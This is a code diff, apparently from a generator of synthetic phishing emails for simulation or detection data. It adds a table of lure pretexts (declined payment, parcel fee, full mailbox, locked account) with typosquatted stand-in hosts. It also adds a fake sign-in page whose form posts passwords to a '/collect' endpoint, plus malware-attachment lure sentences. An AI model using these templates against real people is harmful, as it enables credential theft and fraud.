@@ -142,21 +142,66 @@ const mobile = (input: BodyInput, random: Random): string =>
     `Can you change my bank details for this month&#39;s salary? I will send the new account once you confirm.`,
   ])}</div><div dir="auto"><br></div><div dir="auto">${e(input.row.from_name)}</div><div style="font-size:small;color:#888">Sent from my iPhone</div>`;
 
-const credentials = (input: BodyInput, random: Random): string =>
-  frame(
+/** The page that a look-alike mail imitates, by a word of its subject: its title, its request and its host. */
+const PRETEXTS: readonly (readonly [about: RegExp, title: string, ask: string, host: string])[] = [
+  [
+    /payment/i,
+    'Payment declined',
+    'We could not charge your card. Sign in to update it.',
+    'netflix-renew.example',
+  ],
+  [
+    /parcel/i,
+    'Your parcel is waiting',
+    'A fee of 1.99 is due before delivery. Sign in to pay it.',
+    'dhl-parcel-fee.test',
+  ],
+  [/full/i, 'Mailbox is full', 'New mail is refused. Sign in to add storage.', 'rnicrosoft-login.test'],
+  [
+    /delivered/i,
+    'Messages on hold',
+    'They wait on the server. Sign in to release them.',
+    'rnicrosoft-login.test',
+  ],
+  [
+    /locked/i,
+    'Account locked',
+    'We saw unusual activity. Sign in to unlock your account.',
+    'rnicrosoft-login.test',
+  ],
+  [/./, 'Password expires today', 'Sign in to keep your current password.', 'rnicrosoft-login.test'],
+];
+
+const findPretext = (subject: string): (typeof PRETEXTS)[number] => {
+  const found = PRETEXTS.find(([about]) => about.test(subject)) ?? PRETEXTS.at(-1);
+  if (!found) throw new Error('There is no pretext');
+  return found;
+};
+
+const credentials = (input: BodyInput, random: Random): string => {
+  const [, title, ask, host] = findPretext(input.row.subject);
+  return frame(
     input,
     random,
     `<style>#f{width:340px;margin:auto;font-family:Segoe UI}#f input{width:100%;padding:8px;border:0;border-bottom:1px solid #666}</style>
-<div id="f"><img src="https://aadcdn.rnicrosoft-login.test/logo.svg" width="108"><h3>Password expires today</h3><p>${e(input.recipient)}</p>
-<form action="https://rnicrosoft-login.test/collect" method="post" onsubmit="this.t.value=Date.now()"><input name="p" type="password" placeholder="Current password"><input type="hidden" name="t"><button style="background:#0067b8;color:#fff">Sign in</button></form>
-<p onclick="window.open('https://rnicrosoft-login.test/help')">Can&#39;t access your account?</p>${input.links.map((link) => `<p>${anchor(link)}</p>`).join('')}</div>`,
+<div id="f"><img src="https://cdn.${host}/logo.svg" width="108"><h3>${title}</h3><p>${e(input.recipient)}</p><p>${ask}</p>
+<form action="https://${host}/collect" method="post" onsubmit="this.t.value=Date.now()"><input name="p" type="password" placeholder="Current password"><input type="hidden" name="t"><button style="background:#0067b8;color:#fff">Sign in</button></form>
+<p onclick="window.open('https://${host}/help')">Can&#39;t access your account?</p>${input.links.map((link) => `<p>${anchor(link)}</p>`).join('')}</div>`,
   );
+};
+
+/** Returns the sentence of a mail with malware about its attachment. */
+const findCargo = (subject: string): string => {
+  if (/label/i.test(subject)) return 'Your parcel could not be delivered. Print the label in the attachment.';
+  if (/order/i.test(subject)) return 'See the updated purchase order. Enable content to view it.';
+  return 'Please check the overdue invoice attached and settle it today.';
+};
 
 const malware = (input: BodyInput, random: Random): string =>
   frame(
     input,
     random,
-    `<div style="font-family:Arial"><p>${random.pick(['Dear customer', `Dear ${e(input.firstName)}`])},</p><p>${random.pick(['Your parcel could not be delivered. Print the label in the attachment.', 'Please check the overdue invoice attached and settle it today.', 'See the updated purchase order. Enable content to view it.'])}</p>
+    `<div style="font-family:Arial"><p>${random.pick(['Dear customer', `Dear ${e(input.firstName)}`])},</p><p>${findCargo(input.row.subject)}</p>
 ${input.links.map((link) => `<p>${anchor(link)}</p>`).join('')}<p>${e(input.row.from_name)}</p></div>`,
   );
 
